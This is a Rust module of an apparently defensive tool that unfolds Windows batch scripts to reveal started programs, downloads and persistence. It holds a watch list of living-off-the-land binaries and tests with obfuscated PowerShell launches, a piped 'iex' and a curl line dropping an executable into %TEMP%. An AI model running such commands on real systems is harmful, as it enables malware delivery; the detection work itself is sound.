//! Batch texts: what the commands in them would do.

use crate::batch::{self, Started};
use crate::scan;
use crate::script::{Action, Budget, Effect, Text, Unfolded};
use strongroom_model::{Gap, Layer, Why};

/// Programs whose start is worth recording; all others are a script's everyday work.
const PROGRAMS: [&str; 32] = [
    "powershell",
    "powershell_ise",
    "pwsh",
    "cmd",
    "mshta",
    "regsvr32",
    "certutil",
    "bitsadmin",
    "rundll32",
    "msiexec",
    "wscript",
    "cscript",
    "curl",
    "wget",
    "schtasks",
    "reg",
    "sc",
    "start",
    "wmic",
    "installutil",
    "cmstp",
    "msbuild",
    "netsh",
    "hh",
    "forfiles",
    "pcalua",
    "conhost",
    "nslookup",
    "ftp",
    "vssadmin",
    "bcdedit",
    "wevtutil",
];
/// Ends of the names of files that run.
const RUNS: [&str; 12] = [
    ".exe", ".scr", ".com", ".bat", ".cmd", ".ps1", ".vbs", ".vbe", ".js", ".jse", ".wsf", ".hta",
];

/// Reads a batch text.
pub(super) fn unfold(text: &str, budget: &mut Budget<'_>) -> Unfolded {
    let mut unfolded = Unfolded {
        layers: vec![Layer {
            by: "source".into(),
            text: text.to_owned(),
        }],
        ..Unfolded::default()
    };
    let ran = batch::run_file(text, budget);
    unfolded.gaps = ran.gaps;
    clear_text(text, &ran.started, &mut unfolded);
    for started in &ran.started {
        start(started, &mut unfolded.effects);
    }
    let whole = (0, text.len());
    for (path, content) in ran.files {
        let action = Action::Write {
            path: Text::known(path),
            content: Some(content),
        };
        unfolded.effects.push(effect(action, whole));
    }
    for (path, at) in ran.deleted {
        let path = Text::known(path);
        unfolded.effects.push(effect(Action::Delete { path }, at));
    }
    if ran.started.iter().any(|started| has_open_cut(&started.line)) {
        unfolded.gaps.push(Gap::new(
            "batch",
            Why::Unsupported,
            "text cut out of variables whose value is not known",
        ));
    }
    unfolded
}

fn effect(action: Action, (start, end): (usize, usize)) -> Effect {
    Effect {
        action,
        layer: 0,
        start,
        end,
    }
}

/// The commands as they run are a layer, where that is not what the text says.
fn clear_text(text: &str, started: &[Started], unfolded: &mut Unfolded) {
    let concealed = started.iter().any(|started| !text.contains(started.line.trim()));
    if concealed {
        let lines: Vec<&str> = started.iter().map(|started| started.line.as_str()).collect();
        unfolded.layers.push(Layer {
            by: "deobfuscated".into(),
            text: lines.join("\n"),
        });
    }
}

/// `%username:~1,2%` that is left as it is written.
fn has_open_cut(line: &str) -> bool {
    line.split('%').skip(1).step_by(2).any(|name| name.contains(":~"))
}

fn start(started: &Started, effects: &mut Vec<Effect>) {
    let line = started.line.as_str();
    let program = super::commands::program(line);
    let runs = RUNS.iter().any(|end| program.ends_with(end)) || line.to_ascii_lowercase().contains(".exe");
    if !PROGRAMS.contains(&program.as_str()) && !program.starts_with("powershell") && !runs {
        return;
    }
    if let Some(action) = further(&program, line) {
        effects.push(effect(action, started.at));
    }
    let input = started.input.as_deref().map(str::trim_end);
    let command = match input.filter(|input| !input.is_empty()) {
        Some(input) => format!("{}| {line}", echoed(input)),
        None => line.to_owned(),
    };
    let command = Text::known(command);
    effects.push(effect(Action::Start { command }, started.at));
}

/// Returns the commands that write a text out; what would mean something to `cmd` means nothing behind a caret.
fn echoed(text: &str) -> String {
    let line = |line: &str| {
        let plain = !matches!(
            line.trim().to_ascii_lowercase().as_str(),
            "" | "on" | "off" | "/?"
        );
        let mut echo = String::from(if plain { "echo " } else { "echo(" });
        for c in line.chars() {
            if "&|<>^()\"".contains(c) {
                echo.push('^');
            }
            echo.push(c);
            // So that no name stands between two of them.
            if c == '%' {
                echo.push('^');
            }
        }
        echo
    };
    let lines: Vec<String> = text.lines().map(line).collect();
    match lines.as_slice() {
        [one] => one.clone(),
        all => format!("({})", all.join("&")),
    }
}

/// What a command does beside being started: a download, an arrangement to be started again.
fn further(program: &str, command: &str) -> Option<Action> {
    let lower = command.to_ascii_lowercase();
    if let Some((url, to)) = fetched_by_program(command) {
        return Some(Action::Download {
            url: Text::known(url),
            to: to.map(Text::known),
        });
    }
    let task = program == "schtasks" && lower.contains("/create");
    let run_key = program == "reg" && lower.contains(" add ") && lower.contains("\\currentversion\\run");
    let service = program == "sc" && lower.contains(" create ");
    (task || run_key || service).then(|| Action::Persist {
        how: program.to_owned(),
        command: Text::known(command),
    })
}

/// Returns the URL that a program of the system fetches, and the file that it is written to.
pub(crate) fn fetched_by_program(command: &str) -> Option<(String, Option<String>)> {
    let program = super::commands::program(command);
    let fetches = match program.as_str() {
        "curl" | "wget" | "bitsadmin" => true,
        "certutil" => {
            let lower = command.to_ascii_lowercase();
            lower.contains("urlcache") || lower.contains("verifyctl")
        }
        "mshta" | "regsvr32" | "msiexec" => {
            let url = scan::urls(command).next()?;
            return Some((url.observable.value().to_owned(), None));
        }
        _ => false,
    };
    let url = scan::urls(command).next().filter(|_| fetches)?;
    Some((url.observable.value().to_owned(), written_to(command)))
}

/// Returns the file that a download is written to: behind `-o`, or the last word.
fn written_to(command: &str) -> Option<String> {
    let words: Vec<&str> = command
        .split_whitespace()
        .map(|word| word.trim_matches('"'))
        .collect();
    // `-O` of `curl` takes no file: the address names it.
    let own = super::commands::program(command) == "wget";
    let flagged = words
        .iter()
        .position(|word| matches!(*word, "-o" | "--output") || own && *word == "-O");
    if flagged.is_none() && words.contains(&"-O") {
        let address = words.iter().find(|word| word.contains("://"))?;
        let name = address.split(['?', '#']).next()?.rsplit('/').next()?;
        return (!name.is_empty()).then(|| name.to_owned());
    }
    let word = flagged.and_then(|at| words.get(at + 1)).or(words.last())?;
    (!word.contains("://")).then(|| (*word).to_owned())
}

#[cfg(test)]
mod tests {
    use super::*;
    use strongroom_model::Limits;

    fn starts(text: &str) -> Vec<String> {
        let limits = Limits::default();
        let unfolded = unfold(text, &mut Budget::new(&limits));
        let started = unfolded
            .effects
            .into_iter()
            .filter_map(|effect| match effect.action {
                Action::Start { command } => Some(command.to_string()),
                _ => None,
            });
        started.collect()
    }

    #[test]
    fn variables_escapes_and_joined_lines_are_put_together() {
        let text =
            "@echo off\nset a=power\nset \"b=shell\"\n%a%%b% -nop ^\n -c x & echo done\np^o^wershell y\n";
        assert_eq!(
            starts(text),
            ["powershell -nop  -c x ", "powershell y"].map(|line| line.trim_end().to_owned())
        );
    }

    #[test]
    fn lines_that_flow_into_powershell_are_handed_on() {
        let text = "(echo $a='x ^& y'\necho.\necho iex $a) | powershell -nop -\n";
        let commands = starts(text);
        assert_eq!(
            commands,
            ["(echo $a='x ^& y'&echo(&echo iex $a)| powershell -nop -"]
        );
        let limits = Limits::default();
        let unfolded = crate::powershell::unfold_command(&commands[0], &mut Budget::new(&limits))
            .expect("it starts PowerShell");
        let stdin = unfolded
            .layers
            .iter()
            .find(|layer| layer.by == "stdin")
            .expect("a layer");
        assert_eq!(stdin.text.trim_end(), "$a='x & y'\r\n\r\niex $a");
        assert_eq!(
            echoed("a \"b|c\" %windir% (d)"),
            "echo a ^\"b^|c^\" %^windir%^ ^(d^)"
        );
    }

    #[test]
    fn a_quoted_ampersand_does_not_end_a_command() {
        assert_eq!(
            starts("powershell -c \"a & b\" | more"),
            ["powershell -c \"a & b\""]
        );
    }

    #[test]
    fn a_download_is_recorded_with_its_file() {
        let limits = Limits::default();
        let unfolded = unfold(
            "curl -s https://a.example/x -o %TEMP%\\x.exe",
            &mut Budget::new(&limits),
        );
        let Action::Download { url, to } = &unfolded.effects[0].action else {
            panic!("{:?}", unfolded.effects)
        };
        assert_eq!(
            (url.to_string(), to.clone().unwrap().to_string()),
            ("https://a.example/x".into(), "%TEMP%\\x.exe".into())
        );
    }

    #[test]
    fn cut_variables_are_a_gap() {
        let limits = Limits::default();
        assert_eq!(
            unfold("%username:~1,2%.exe y", &mut Budget::new(&limits))
                .gaps
                .len(),
            1
        );
    }
}
